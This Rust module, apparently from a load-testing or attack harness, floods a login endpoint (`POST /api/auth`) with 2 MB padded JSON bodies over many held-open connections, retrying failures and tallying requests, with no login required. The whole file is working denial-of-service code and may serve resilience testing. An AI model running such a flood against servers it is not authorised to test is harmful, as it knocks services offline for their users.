//! `login-body-flood`: each connection sends `POST /api/auth` with `Content-Length: 2000000`
//! and the whole JSON body (a wrong secret padded to size), never reads the answer while it
//! holds the connection, and takes one look at it at the end; a connect that fails or a body
//! the server cuts off is tried again on a new connection. No login is needed for this.

use std::sync::Arc;

use super::conn::{Attack, PIECE};

/// Bytes of each login body.
pub(crate) const BODY_BYTES: usize = 2_000_000;

const PREFIX: &[u8] = br#"{"sharedSecret":""#;
const SUFFIX: &[u8] = br#""}"#;
static PADDING: [u8; PIECE] = [b'x'; PIECE];

pub(crate) async fn run(attack: &Arc<Attack>) {
    attack.each_repeating(connection).await;
}

async fn connection(attack: Arc<Attack>, i: usize) -> bool {
    let Some(mut stream) = attack.connect(i).await else {
        return false;
    };
    let head = attack.login_head(BODY_BYTES);
    attack.tally.request_started();
    if !attack.send(&mut stream, head.as_bytes()).await || !attack.send(&mut stream, PREFIX).await {
        return false;
    }
    let mut padding = BODY_BYTES - PREFIX.len() - SUFFIX.len();
    while padding > 0 {
        let n = padding.min(PIECE);
        if !attack.send(&mut stream, &PADDING[..n]).await {
            return false;
        }
        padding -= n;
    }
    if !attack.send(&mut stream, SUFFIX).await {
        return false;
    }
    attack.tally.request_sent();
    attack.over().await;
    attack.last_look(&mut stream).await;
    true
}
